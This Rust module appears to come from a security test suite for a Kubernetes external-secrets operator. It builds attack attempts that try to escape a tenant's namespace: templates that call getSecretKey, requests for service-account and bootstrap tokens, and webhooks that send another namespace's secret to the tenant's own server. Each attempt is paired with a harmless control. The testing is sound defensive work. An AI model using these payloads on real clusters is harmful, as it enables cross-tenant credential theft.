//! Templates and webhooks that reach out of their namespace.

use credence_core::operator_api::GENERATORS_API;
use serde_json::{Value, json};

use super::{AttackContext, Attempt};
use crate::p08_access_control::call::{CORE, Call, EXTERNAL_SECRETS, GENERATORS};
use crate::p08_access_control::objective::Goal;
use crate::p08_access_control::objects::{self, OWN, VALUE};
use crate::p08_access_control::route::{ACCOUNT_TOKEN, BOOTSTRAP_TOKEN, Caller, Disguise, Route, Trick};

/// A template that reads the tenant's own value.
const HARMLESS: &str = "{{ .value }}";
/// The key of the Secret that a template makes.
const MADE: &str = "made";

/// A template that reads the source by itself.
pub(super) fn stolen(disguise: Disguise, goal: &Goal<'_>) -> String {
    disguise.call("getSecretKey", &[&goal.source.name, &goal.source.namespace, goal.key])
}

/// An ExternalSecret of the tenant's own Secret whose template reaches out.
pub(super) fn template(
    context: &AttackContext<'_>,
    trick: Trick,
    disguise: Disguise,
    goal: &Goal<'_>,
    name: &str,
) -> Attempt {
    let text = match trick {
        Trick::HostByName => disguise.call("getHostByName", &["localhost"]),
        _ => stolen(disguise, goal),
    };
    let mut prepare = Vec::new();
    let kept = |resource: &str, object: Value| Call::create(context.of_mine(CORE, resource), object);
    match trick {
        Trick::ConfigMap => {
            let map = objects::object("v1", "ConfigMap", name, json!({ "data": { MADE: text } }));
            prepare.push(kept("configmaps", map));
        }
        Trick::Secret => {
            let secret = objects::object("v1", "Secret", &kept_in(name), json!({ "stringData": { MADE: text } }));
            prepare.push(kept("secrets", secret));
        }
        _ => {}
    }
    let attempt = context.create_external_secret(name, spec(context, trick, name, &text));
    let harmless = context.harmless_external_secret(name, harmless(context, trick));
    let attempt = Attempt::of_route(context, Route::Template(trick, disguise), goal, attempt, harmless);
    Attempt { prepare, ..attempt.read_by(context, name) }
}

/// The Secret that holds a template; the ExternalSecret's own has its name.
fn kept_in(name: &str) -> String {
    format!("{name}-template")
}

fn spec(context: &AttackContext<'_>, trick: Trick, name: &str, text: &str) -> Value {
    let literal = |target: &str, text: &str| json!([{ "target": target, "literal": format!("{MADE}: {text}") }]);
    let items = json!([{ "key": MADE, "templateAs": "Values" }]);
    let template = match trick {
        Trick::Data | Trick::HostByName => json!({ "data": { MADE: text } }),
        Trick::Literal => json!({ "templateFrom": literal("Data", text) }),
        Trick::Label => json!({ "metadata": { "labels": { MADE: text } } }),
        Trick::Annotation => json!({ "metadata": { "annotations": { MADE: text } } }),
        Trick::ConfigMap => json!({ "templateFrom": [{ "configMap": { "name": name, "items": items } }] }),
        Trick::Secret => json!({ "templateFrom": [{ "secret": { "name": kept_in(name), "items": items } }] }),
        Trick::AccountToken => json!({
            "type": ACCOUNT_TOKEN,
            "metadata": { "annotations": { "kubernetes.io/service-account.name": context.account } },
        }),
        Trick::BootstrapToken => json!({ "type": BOOTSTRAP_TOKEN }),
        Trick::Target => json!({ "templateFrom": literal("Annotations", text) }),
        Trick::Rewrite => return rewritten(context, text),
    };
    with_template(context, template)
}

/// The same with nothing in it that reaches out.
fn harmless(context: &AttackContext<'_>, trick: Trick) -> Value {
    match trick {
        Trick::Rewrite => rewritten(context, HARMLESS),
        Trick::AccountToken | Trick::BootstrapToken => with_template(context, json!({ "type": "Opaque" })),
        Trick::ConfigMap | Trick::Secret | Trick::Target => spec(context, Trick::Literal, "", HARMLESS),
        _ => spec(context, trick, "", HARMLESS),
    }
}

fn with_template(context: &AttackContext<'_>, template: Value) -> Value {
    let mut spec = context.own_reading();
    spec["target"] = json!({ "template": template });
    spec
}

/// The tenant's own Secret, under keys that a template makes.
fn rewritten(context: &AttackContext<'_>, text: &str) -> Value {
    json!({
        "secretStoreRef": objects::store_ref(OWN, &context.own_store()),
        "dataFrom": [{ "extract": { "key": context.private() }, "rewrite": [{ "transform": { "template": text } }] }],
    })
}

/// A webhook that sends the source to a server of the tenant's own.
pub(super) fn webhook(context: &AttackContext<'_>, caller: Caller, goal: &Goal<'_>, name: &str) -> Attempt {
    let told = objects::webhook(&context.receiver, &stolen(Disguise::Plain, goal));
    let of_route = |call, harmless| Attempt::of_route(context, Route::Webhook(caller), goal, call, harmless);
    match caller {
        Caller::Generator => {
            let generator = objects::object(GENERATORS_API, "Webhook", name, json!({ "spec": told }));
            let then = Some(context.create_external_secret(name, objects::generated("Webhook", name)));
            let call = Call::create(context.of_mine(GENERATORS, "webhooks"), generator);
            Attempt { then, ..of_route(call, None).read_by(context, name) }
        }
        Caller::Store => {
            let stores = context.of_mine(EXTERNAL_SECRETS, "secretstores");
            let store = Some(format!("{stores}/{name}"));
            let call = Call::create(stores, objects::store(OWN, name, json!({ "webhook": told })));
            let then = Some(context.create_external_secret(name, objects::reading(OWN, name, "any", VALUE)));
            Attempt { store, then, ..of_route(call, context.harmless_store(name)).read_by(context, name) }
        }
    }
}
